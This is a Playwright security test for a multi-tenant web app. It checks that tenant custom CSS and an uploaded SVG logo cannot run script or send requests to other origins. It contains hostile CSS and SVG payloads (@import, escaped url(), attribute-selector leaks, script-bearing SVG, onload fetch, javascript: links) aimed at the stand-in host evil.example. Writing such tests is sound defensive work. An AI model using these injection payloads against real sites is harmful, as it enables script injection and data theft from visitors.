import {
  expect,
  test,
  type APIRequestContext,
  type BrowserContext,
  type Page,
} from '@playwright/test';

/**
 * A tenant's custom CSS and a hostile SVG logo can neither run script nor send anything to another
 * origin. The demo owner brands the seeded instance of Oakfield (main-oakfield.instances.localhost;
 * its branding overrides the organization's field by field), so the organization-level branding
 * other specs rely on stays untouched.
 */
const PORT = Number(process.env.E2E_PORT ?? 3100);
const INSTANCE_HOST = `main-oakfield.instances.localhost:${PORT}`;

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

/** Every stylesheet tries to reach evil.example or run script; `body` matches so a fetch would fire. */
const HOSTILE_CSS = [
  'body { background: url(http://evil.example/css-url.png); }',
  '@import url(http://evil.example/import.css);',
  '@import "http://evil.example/import-string.css";',
  '@\\69mport "http://evil.example/import-escaped.css";',
  'body { width: expression(alert(1)); }',
  "</style><script>window.__pwned = 'css-style-break'</script>",
  'body { background: u\\72l(http://evil.example/escaped-url.png); }',
  '@font-face { font-family: evil; src: url(http://evil.example/font.woff); } body { font-family: evil; }',
  'input[value^="a"] { background: url(http://evil.example/leak?first=a); }',
  'body { behavior: url(http://evil.example/x.htc); }',
  'body { cursor: url(http://evil.example/cursor.png), auto; }',
  'body { background-image: -webkit-image-set("http://evil.example/image-set.png" 1x); }',
  'body { background-image: image-set("http://evil.example/image-set2.png" 1x); }',
  "body { background: url('javascript:window.__pwned=1'); }",
];

/** Proves the stylesheet that was saved is live on the page. */
const PROBE_CSS = ':root { --security-probe: 42; }';

const HOSTILE_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40"
  onload="window.__pwned='svg-onload'; fetch('http://evil.example/svg-onload')">
  <script>window.__pwned = 'svg-script'; new Image().src = 'http://evil.example/svg-script';</script>
  <style>@import url(http://evil.example/svg-import.css); rect { fill: url(http://evil.example/svg-fill); }</style>
  <image href="http://evil.example/svg-image.png" width="10" height="10"/>
  <image xlink:href="http://evil.example/svg-xlink.png" width="10" height="10"/>
  <use href="http://evil.example/sprite.svg#logo"/>
  <rect width="120" height="40" rx="6" fill="#0055aa" style="fill: url(http://evil.example/svg-style)"/>
  <foreignObject width="120" height="40">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/svg-iframe"></iframe>
  </foreignObject>
  <a href="javascript:window.__pwned='svg-link'"><text x="10" y="26" fill="#fff">Oakfield</text></a>
  <animate attributeName="href" to="javascript:window.__pwned='svg-animate'" begin="0s"/>
</svg>`;

function isLocal(url: string): boolean {
  const u = new URL(url);
  if (u.protocol === 'data:' || u.protocol === 'blob:' || u.protocol === 'about:') return true;
  return (
    u.hostname === 'localhost' || u.hostname.endsWith('.localhost') || u.hostname === '127.0.0.1'
  );
}

type Watch = {
  /** Non-local requests the page started (Chromium reports CSP-blocked ones too). */
  attempted: string[];
  /** Those Chromium stopped because of the Content Security Policy. */
  blockedByCsp: string[];
  /** Non-local requests that reached the network stage (stopped here by the route). */
  left: string[];
  dialogs: string[];
  consoleErrors: string[];
  pageErrors: string[];
};

/** Records non-local requests (and stops any that would leave), dialogs and console errors. */
async function watch(context: BrowserContext, page: Page): Promise<Watch> {
  const w: Watch = {
    attempted: [],
    blockedByCsp: [],
    left: [],
    dialogs: [],
    consoleErrors: [],
    pageErrors: [],
  };
  await context.route(
    (url) => !isLocal(url.href),
    (route) => {
      w.left.push(route.request().url());
      return route.abort();
    },
  );
  page.on('request', (r) => {
    if (!isLocal(r.url())) w.attempted.push(r.url());
  });
  page.on('requestfailed', (r) => {
    if (!isLocal(r.url()) && r.failure()?.errorText === 'csp') w.blockedByCsp.push(r.url());
  });
  page.on('requestfinished', (r) => {
    if (!isLocal(r.url())) w.left.push(r.url());
  });
  page.on('dialog', (d) => {
    w.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => {
    if (m.type() === 'error') w.consoleErrors.push(m.text());
  });
  page.on('pageerror', (e) => w.pageErrors.push(e.message));
  return w;
}

async function signIn(request: APIRequestContext): Promise<Record<string, string>> {
  const login = await request.post('/api/v1/auth/login', {
    data: { email: 'demo@scmp.test', password: 'DemoPass!2026' },
  });
  expect(login.status()).toBe(200);
  return { Authorization: `Bearer ${((await login.json()) as Json).data.token as string}` };
}

async function mainInstanceUuid(request: APIRequestContext, auth: Record<string, string>) {
  const res = await request.get('/api/v1/instances', { headers: auth });
  expect(res.status()).toBe(200);
  const list = ((await res.json()) as Json).data as Json[];
  const main = list.find((i) => String(i.host).startsWith('main-oakfield.'));
  expect(main, 'the seeded main-oakfield instance').toBeTruthy();
  return String(main!.uuid ?? main!.id);
}

test('hostile custom CSS and a hostile SVG logo cannot run script or reach another origin', async ({
  browser,
  request,
}) => {
  const auth = await signIn(request);
  const id = await mainInstanceUuid(request, auth);

  // The API refuses each hostile stylesheet with a reason, or (defence in depth) accepts a
  // rebuilt one that the browser below must still contain.
  const accepted: string[] = [];
  for (const css of HOSTILE_CSS) {
    const res = await request.put(`/api/v1/branding/${id}`, {
      headers: auth,
      data: { custom_css: css },
    });
    const body = (await res.json()) as Json;
    expect([200, 422], `${css} → ${res.status()}`).toContain(res.status());
    if (res.status() === 422) {
      expect(body.success).toBe(false);
      expect(body.errors.custom_css[0], css).toMatch(/^Custom CSS/);
    } else {
      accepted.push(css);
    }
  }
  // The script and @import vectors never get through.
  expect(accepted.join('\n')).not.toMatch(/<\/|<script|@import|@\\69mport|expression|javascript/i);
  const saved = await request.put(`/api/v1/branding/${id}`, {
    headers: auth,
    data: { custom_css: [PROBE_CSS, ...accepted].join('\n') },
  });
  expect(saved.status()).toBe(200);

  const upload = await request.post(`/api/v1/branding/${id}/logo`, {
    headers: auth,
    multipart: {
      logo: { name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(HOSTILE_SVG) },
    },
  });
  expect(upload.status()).toBe(200);
  const logoUrl = String(((await upload.json()) as Json).data.logo_url);
  expect(logoUrl).toMatch(/^\/files\/branding\/branding-[0-9a-f-]+\.svg$/);
  const stored = await (await request.get(logoUrl)).text();
  expect(stored).toContain('<rect');
  expect(stored).not.toMatch(/<script|onload|evil\.example|javascript:|foreignObject/i);

  const context = await browser.newContext();
  await context.addInitScript(() => {
    try {
      localStorage.setItem('cookie_consent', 'true');
      localStorage.setItem(
        'cookie_preferences',
        JSON.stringify({ essential: true, functional: false, analytics: false, marketing: false }),
      );
    } catch {
      // The SVG file is served sandboxed (no storage): nothing to consent to there.
    }
  });
  const page = await context.newPage();
  const w = await watch(context, page);

  try {
    // The tenant site: the custom CSS is applied and the logo shown, as an <img>.
    await page.goto(`http://${INSTANCE_HOST}/`);
    await expect(page.locator(`img[src="${logoUrl}"]`).first()).toBeVisible();
    await expect
      .poll(() =>
        page.evaluate(() =>
          getComputedStyle(document.documentElement).getPropertyValue('--security-probe').trim(),
        ),
      )
      .toBe('42');
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => (window as unknown as Json).__pwned)).toBeUndefined();

    // The uploaded file opened directly, on the main host and on the tenant host.
    for (const origin of [`http://localhost:${PORT}`, `http://${INSTANCE_HOST}`]) {
      const res = await page.goto(`${origin}${logoUrl}`);
      expect(res?.status()).toBe(200);
      expect(res?.headers()['content-type']).toBe('image/svg+xml');
      await page.waitForLoadState('networkidle');
      expect(await page.evaluate(() => (window as unknown as Json).__pwned)).toBeUndefined();
    }

    // Nothing left for another origin; whatever was attempted, the CSP stopped in the browser.
    expect(w.left).toEqual([]);
    expect([...w.attempted].sort()).toEqual([...w.blockedByCsp].sort());
    // Each external URL in a stylesheet the API let through was tried, and blocked.
    for (const css of accepted) {
      const url = /http:\/\/evil\.example\/[^"')\s]+/.exec(css)?.[0];
      if (url) expect(w.blockedByCsp, css).toContain(url);
    }
    expect(w.dialogs).toEqual([]);
    expect(w.pageErrors).toEqual([]);
    // The only noise allowed: the browser reporting what the Content Security Policy blocked.
    expect(w.consoleErrors.filter((text) => !/Content Security Policy/i.test(text))).toEqual([]);
  } finally {
    await context.close();
    // Leave the instance as the seed made it.
    await request.put(`/api/v1/branding/${id}`, { headers: auth, data: { custom_css: '' } });
    await request.delete(`/api/v1/branding/${id}/logo`, { headers: auth });
  }
});
